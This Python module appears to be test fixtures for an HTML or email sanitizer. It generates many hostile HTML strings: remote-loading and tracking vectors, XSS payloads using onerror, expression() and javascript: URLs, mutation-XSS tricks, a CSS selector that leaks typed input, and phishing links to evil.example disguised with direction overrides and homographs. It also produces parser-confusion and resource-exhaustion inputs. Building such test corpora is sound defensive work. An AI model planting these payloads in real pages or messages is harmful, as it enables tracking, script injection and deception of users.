"""More HTML of strangers: each way to name an address that a reader might ask, and each that a parser might trip over.

`hostile_mail.hostile` has them among its own.
"""

from __future__ import annotations


def asking(web: str, file: str) -> dict[str, str]:
    """What would load something or lead somewhere. `web`: what waits to be asked, `file`: on this computer."""
    image = f'<img src="{web}">'
    return {
        "import, spelled otherwise": (
            f"<style>@IMPORT \"{web}\"; @\\69mport url({web}); @import/**/'{web}' print;</style>"
        ),
        "import, with a layer": (
            f'<style>@import url("{web}") layer(x) supports(display: grid);@charset "utf-7";</style>'
        ),
        "font, of many kinds": (
            f"<style>@font-face {{ font-family: x; src: local(x), url({web}) format('woff2'), url('file://{file}') }}"
            "* { font-family: x }</style>"
        ),
        "background, as a shorthand": (
            f"<p style=\"background: #fff no-repeat center/cover URL( '{web}' ) fixed\">x</p>"
            f'<p style="background:url({web}),url(file://{file})">x</p>'
        ),
        "background, in escapes": f'<p style="\\62 ackground:\\75\\72\\6c({web})">x</p>',
        "background, in comments": f'<p style="back/**/ground:/*x*/url(/**/{web}/**/)">x</p>',
        "background, in entities": f'<p style="background&#58;url&#40;&quot;{web}&quot;&#41;">x</p>',
        "background, without an end": f'<p style="background:url(\'{web}">x</p>',
        "background, of a set": (
            f"<p style=\"background-image:image-set('{web}' 1x);background:-webkit-image-set(url({web}) 1x)\">x</p>"
            f'<p style="background-image:cross-fade(url({web}), url({web}), 50%)">x</p>'
        ),
        "background, by a variable": f"<style>:root {{ --x: url({web}) }} p {{ background: var(--x) }}</style>",
        "background, of everything": (
            f'<body background="{web}"><table background="{web}"><thead background="{web}"><tr background="{web}">'
            f'<th background="{web}">x<td background="{web}">y</table>'
        ),
        "other properties that load": "".join(
            f'<p style="{name}: url({web})">x</p>'
            for name in (
                "cursor",
                "content",
                "border-image",
                "mask",
                "-webkit-mask-image",
                "filter",
                "clip-path",
                "shape-outside",
                "offset-path",
                "list-style",
                "behavior",
            )
        ),
        "what is typed, letter by letter": (
            f"<style>input[value^=a] {{ background: url({web}?a) }}</style><input value=a>"
        ),
        "style of the whole page": (
            f'<html style="background:url({web})"><body style="background:url({web})" bgcolor={web}>'
        ),
        "style for print": f'<style media=print>p {{ content: url("{web}") }}</style><style type=text/less>a</style>',
        "script in a style": (
            f"<style>p {{ width: expression(new Image().src='{web}') }}</style><xss style='xss:e/**/xpression(1)'>"
        ),
        "svg, with a page in it": (
            f"<svg><foreignObject><body>{image}<iframe src='{web}'></iframe></body></foreignObject></svg>"
        ),
        "svg, with a filter": (
            f'<svg><filter><feImage href="{web}"/></filter><image href="{web}"/><a href="{web}">x</a></svg>'
        ),
        "svg, that moves": (
            f'<svg><a><set attributeName=href to="{web}"/><animate attributeName=href values="{web}"/>x</a></svg>'
        ),
        "svg, with a sheet": f'<svg><style>@import "{web}";</style><?xml-stylesheet href="{web}"?></svg>',
        "svg, as data": (
            "<img src=\"data:image/svg+xml,%3Csvg onload=alert(1)%3E\"><img src='data:image/svg+xml;utf8,<svg>'>"
        ),
        "page, as data": (
            '<a href="data:text/html,<script>alert(1)</script>">x</a><iframe src="data:text/html,x"></iframe>'
        ),
        "picture of many sizes": (
            f'<img srcset="{web} 1x, {web}?2 2x, //127.0.0.1/x 400w" sizes="(min-width: 1px) 100vw">'
        ),
        "picture by old names": (
            f'<img lowsrc="{web}" dynsrc="{web}" longdesc="{web}" usemap="{web}"><image src="{web}">'
        ),
        "picture that waits": (
            f'<img loading=lazy data-src="{web}" src="{web}" crossorigin=use-credentials referrerpolicy=unsafe-url>'
        ),
        "picture, outside its table": f"<table>{image}<tr>{image}<td>x</td>{image}</table>",
        "picture, without blanks": f"<img/src={web}/onerror=alert(1)><svg/onload=alert(1)>",
        "picture in what is not read": (
            f"<noembed>{image}</noembed><noframes>{image}</noframes><textarea>{image}</textarea><xmp>{image}</xmp>"
        ),
        "map": f'<map name=x><area href="{web}" ping="{web}"></map><img usemap=#x>',
        "refresh, spelled otherwise": (
            f"<META HTTP-EQUIV=' Refresh ' CONTENT='0; URL = \"{web}\"'><p><meta http-equiv=refresh content=0;{web}>"
        ),
        "cookie and policy": (
            '<meta http-equiv=set-cookie content=a=b><meta http-equiv=content-security-policy content="default-src *">'
            "<meta name=referrer content=unsafe-url>"
        ),
        "base, and what hangs on it": (
            f'<base href="{web}" target=_top><a href="seen">x</a><img src=seen><form action=seen></form>'
        ),
        "hints to a browser": "".join(
            f'<link rel="{name}" href="{web}" as=image>'
            for name in ("preconnect", "preload", "modulepreload", "prerender", "next", "icon", "manifest", "alternate")
        ),
        "rules for guessing": f'<script type=speculationrules>{{"prefetch": [{{"urls": ["{web}"]}}]}}</script>',
        "page in a page, in entities": (
            f'<iframe srcdoc="&lt;img src=&quot;{web}&quot;&gt;&lt;script&gt;1&lt;/script&gt;"></iframe>'
        ),
        "page in a page, by other names": (
            f"<object type=text/html data='{web}'><param name=movie value='{web}'>{image}</object><embed src='{web}'>"
            f"<portal src='{web}'></portal><fencedframe src='{web}'></fencedframe><webview src='{web}'></webview>"
            f"<layer src='{web}'></layer><ilayer src='{web}'></ilayer>"
        ),
        "sound": f'<bgsound src="{web}"><audio><source src="{web}"><track src="{web}"></audio>',
        "film, only its first picture": f'<video poster="{web}" preload=auto></video>',
        "form, that is sent by itself": (
            f'<form action="{web}" onformdata=alert(1)><input type=image src="{web}"><input autofocus onfocus=alert(1)>'
            f'<button type=submit formaction="{web}">x</button><isindex action="{web}" prompt=x></form>'
        ),
        "link that tells somebody": f'<a href="https://x.example/" ping="{web}" attributionsrc="{web}">x</a>',
        "link that shows another way": '<a href="https://evil.example/">https://bank\u202emoc.elpmaxe\u202c.example/</a>',
        "link turned round within": '<a href="https://evil.example/\u202e\u2066gpj.exe">x</a>',
        "link in other letters": (
            '<a href="https://xn--pple-43d.example/">x</a><a href="https://\u0430pple.example/">x</a>'
            '<a href="https://bank.example\uff0fevil.example/">x</a>'
        ),
        "link with a name before the host": (
            '<a href="https://bank.example:443@evil.example/">x</a><a href="https:\\\\evil.example">x</a>'
        ),
        "link to whatever opens it": "".join(
            f'<a href="{scheme}:x">x</a><img src="{scheme}:x">'
            for scheme in (
                "vbscript",
                "blob",
                "filesystem",
                "jar",
                "mhtml",
                "ms-msdt",
                "search-ms",
                "tel",
                "intent",
                "about",
            )
        ),
        "letter with a file": f'<a href="mailto:x@y.example?attach={file}&amp;body=%0d%0aBcc:a@b.example">x</a>',
        "formula that leads away": (
            f'<math href="{web}"><mi href="javascript:alert(1)" xlink:href="{web}">x</mi>'
            f'<maction actiontype="statusline#{web}" xlink:href="{web}">y</maction></math>'
        ),
        "vector pictures of Word": (
            f'<v:rect><v:fill type=frame src="{web}"/><v:imagedata src="{web}" o:href="{web}"/></v:rect>'
            f'<!--[if gte vml 1]><v:shape src="{web}"/><![endif]-->'
        ),
        "condition that all see": f"<![if !mso]>{image}<![endif]><!--[if !IE]>-->{image}<!--<![endif]-->",
        "characters as they are": f"<![CDATA[<script>{web}</script>]]><svg><![CDATA[><img src={web}>]]></svg>",
        "another language's page": f"<?php echo '{web}' ?><% {web} %><!ENTITY x SYSTEM '{web}'>&x;",
        "shadow": f"<div><template shadowrootmode=open><slot></slot>{image}</template></div><x-y>{image}</x-y>",
        "mutation of forms": f"<form><math><mtext></form><form><mglyph><style></math><img src={web} onerror=alert(1)>",
        "mutation of choices": f"<select><option><style></option></select><img src={web} onerror=alert(1)></style>",
        "names of the page itself": (
            f"<img name=cookie><form id=getElementById><input name=attributes></form><a id=x href={web}>"
        ),
        "events without a hand": (
            "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee><dialog open>x"
        ),
        "cites": (
            f'<blockquote cite="{web}">x</blockquote><q cite="{web}">x</q><ins cite="{web}">x</ins>'
            f'<html manifest="{web}">'
        ),
    }


def tripping(web: str) -> dict[str, str]:
    """What a parser reads otherwise than another, and what is too much of one kind."""
    return {
        "two bytes a letter": "".join(f"{letter}\0" for letter in f"<script>{web}</script><img src={web}>"),
        "charset that lies": (
            '<meta charset=utf-7><meta http-equiv=content-type content="text/html; charset=utf-16be">+ADw-b+AD4-'
        ),
        "escapes of another script": "\x1b$B<\x1b(B\x1b)0<script>\x1b(J\\\x0e\x0f</script>",
        "numbers of no letter": "&#0;&#x110000;&#xD800;&#xFFFFFFFFFF;&#-1;&#x;&#128;&#8238;" * 2_000,
        "entities without an end": "&lt;&lt&amp;lt;script&gt &notit; &ampimg; &#60img src=x&#62 " * 2_000,
        "quotes that never end": f"<a href=\"https://x.example/ title='<img src={web}>",
        "all the rest is text": f"<plaintext><script>{web}</script></p></body></html>",
        "ends that never began": "</p></b></table></td></svg></script></style></title></body></html>" * 1_000,
        "heads without end": f"<head><title>x<style>y{web}",
        "tables in tables, with widths": "<table width=100% cellpadding=9 border=1><tr><td width=1 valign=top>x" * 500,
        "all kinds in one another": "<ul><li><blockquote><table><tr><td><div><pre><h1>" * 60 + "x",
        "breaks": "<br>" * 20_000,
        "places to break": "a<wbr>" * 20_000,
        "rules": '<hr size=99999999 width="99999999%" noshade>' * 500,
        "numbers of a list": (
            '<ol start=2147483647 reversed><li value=-2147483648>x<li>y</ol><ol start=9e99 type="&#0;"><li>z</ol>'
        ),
        "columns that span": (
            "<table><colgroup span=99999999><col span=99999999 width=1><tr><td rowspan=65534>x<td>y</table>"
        )
        * 50,
        "tabs": f"<pre>{chr(9) * 100_000}x</pre>",
        "one line of ten megabytes": "lorem ipsum dolor sit amet " * 390_000,
        "one word of ten megabytes": "x" * 10_000_000,
        "style of a megabyte": f'<p style="{"color:red;" * 90_000}">x</p>',
        "turns of direction": "\u202e\u2067x\u202d\u2066" * 20_000,
        "letters nobody sees": "\u200b\u200d\ufe0f\U000e0041\u00ad\u180e\u2060" * 15_000,
        "joined faces": "\U0001f468\u200d" * 10_000,
        "hidden by style": (
            '<div style="display:none;font-size:0;color:#fff;opacity:0;text-indent:-9999px;mso-hide:all">x</div>'
            '<p hidden aria-hidden=true style="visibility:hidden;transform:scale(9999);animation:x 1ms infinite">y</p>'
        ),
    }
